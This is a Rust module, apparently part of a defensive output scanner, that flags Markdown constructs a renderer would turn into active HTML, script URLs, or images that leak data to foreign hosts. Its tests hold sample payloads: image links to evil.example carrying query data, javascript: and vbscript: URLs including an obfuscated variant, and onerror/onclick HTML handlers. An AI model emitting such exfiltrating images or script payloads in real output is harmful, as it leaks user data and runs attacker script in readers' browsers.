//! What a renderer of Markdown would turn into active HTML, load, or link to.

use std::ops::Range;

use pulldown_cmark::{Event, LinkType, Options, Parser, Tag, TagEnd};

use super::{
    address::{Address, AllowedHosts},
    hazard::Hazard,
    html, rules,
};

/// Reports the hazards of `text` to a renderer that keeps links, images, and HTML.
pub(super) fn hazards(text: &str, allowed: &AllowedHosts, out: &mut Vec<Hazard>) {
    // Every construct that matters has one of these.
    if memchr::memchr2(b'<', b']', text.as_bytes()).is_none() {
        return;
    }
    let options =
        Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH | Options::ENABLE_FOOTNOTES;
    // HTML that follows itself is one piece: a tag may go over several lines and events.
    let mut raw_html: Option<Range<usize>> = None;
    for (event, range) in Parser::new_ext(text, options).into_offset_iter() {
        match event {
            Event::Html(_) | Event::InlineHtml(_) => match &mut raw_html {
                Some(open) if open.end >= range.start => open.end = open.end.max(range.end),
                _ => {
                    markup(text, raw_html.replace(range), allowed, out);
                }
            },
            Event::Start(Tag::Link {
                link_type,
                dest_url,
                ..
            }) if link_type != LinkType::Email => link(&dest_url, range, allowed, out),
            Event::Start(Tag::Image { dest_url, .. }) => image(&dest_url, range, allowed, out),
            Event::End(TagEnd::HtmlBlock) => markup(text, raw_html.take(), allowed, out),
            _ => {}
        }
    }
    markup(text, raw_html, allowed, out);
}

fn markup(text: &str, range: Option<Range<usize>>, allowed: &AllowedHosts, out: &mut Vec<Hazard>) {
    let Some(range) = range else { return };
    let first = out.len();
    html::hazards(text.get(range.clone()).unwrap_or_default(), allowed, out);
    for hazard in out.iter_mut().skip(first) {
        hazard.range.start += range.start;
        hazard.range.end += range.start;
    }
}

fn image(destination: &str, range: Range<usize>, allowed: &AllowedHosts, out: &mut Vec<Hazard>) {
    let address = Address::parse(destination);
    if address.runs_script() {
        out.push(Hazard::new(&rules::MARKDOWN_SCRIPT_URL, range, 0.9));
    } else if address.is_foreign(allowed) {
        let carries = address.carries();
        out.push(Hazard::new(
            &rules::MARKDOWN_IMAGE,
            range,
            if carries > 0.0 {
                0.65 + 0.33 * carries
            } else {
                0.5
            },
        ));
    }
}

fn link(destination: &str, range: Range<usize>, allowed: &AllowedHosts, out: &mut Vec<Hazard>) {
    let address = Address::parse(destination);
    if address.runs_script() {
        out.push(Hazard::new(&rules::MARKDOWN_SCRIPT_URL, range, 0.95));
    } else if address.is_foreign(allowed) && address.carries() > 0.0 {
        let confidence = 0.25 + 0.45 * address.carries();
        out.push(Hazard::new(&rules::MARKDOWN_LINK, range, confidence));
    }
}

#[cfg(test)]
#[expect(clippy::string_slice, reason = "a test may panic")]
mod tests {
    use super::*;

    fn found(text: &str) -> Vec<(String, String, f32)> {
        let mut out = Vec::new();
        let allowed = AllowedHosts::new(["example.com"]).unwrap();
        hazards(text, &allowed, &mut out);
        out.into_iter()
            .map(|h| {
                (
                    h.rule.id.to_string(),
                    text[h.range].to_owned(),
                    h.confidence,
                )
            })
            .collect()
    }

    #[test]
    fn images_of_foreign_hosts_are_exfiltration() {
        for text in [
            "a ![x](https://evil.example/?q=secret) b",
            "![x](//evil.example/{data})",
            "![x][1]\n\n[1]: https://evil.example/p?d=1",
            "![x](<https://evil.example/a b?x>)",
            "[![x](https://docs.example.com.evil.com/?q=1)](https://example.com)",
            "![x](https://example.com@evil.example/?q=1)",
        ] {
            let found = found(text);
            assert_eq!(found.len(), 1, "{text} {found:?}");
            assert_eq!(found[0].0, "output.markdown-image-exfiltration");
            assert!(found[0].2 > 0.8, "{text} {found:?}");
        }
        assert!(found("![logo](https://other.example/logo.png)")[0].2 <= 0.5);
    }

    #[test]
    fn the_span_is_the_image() {
        assert_eq!(
            found("a ![x](//evil.example/?q) b")[0].1,
            "![x](//evil.example/?q)"
        );
    }

    #[test]
    fn listed_hosts_and_relative_addresses_stay() {
        for text in [
            "![x](https://example.com/chart.png?size=2)",
            "![x](https://img.example.com:443/a)",
            "![x](chart.png)",
            "[guide](https://rust-lang.org/learn)",
            "<https://rust-lang.org>",
            "<someone@mail.example>",
            "# Title\n\n| a | b |\n|---|---|\n| 1 | `<script>` |\n\n- [ ] task\n",
            "    <script>indented code</script>",
        ] {
            assert_eq!(found(text), [], "{text}");
        }
    }

    #[test]
    fn schemes_that_run_and_html_count() {
        for text in [
            "[x](javascript:alert(1))",
            "[x](JaVaScRiPt&colon;alert(1))",
            "[x]\n\n[x]: vbscript:x",
            "<javascript:alert(1)>",
            "![x](data:text/html;base64,PHM=)",
            "text <img src=x\nonerror=alert(1)> text",
            "<div\nonclick=alert(1)>\n</div>",
            "[x](https://evil.example/?q=secret)",
        ] {
            assert!(!found(text).is_empty(), "{text}");
        }
    }
}
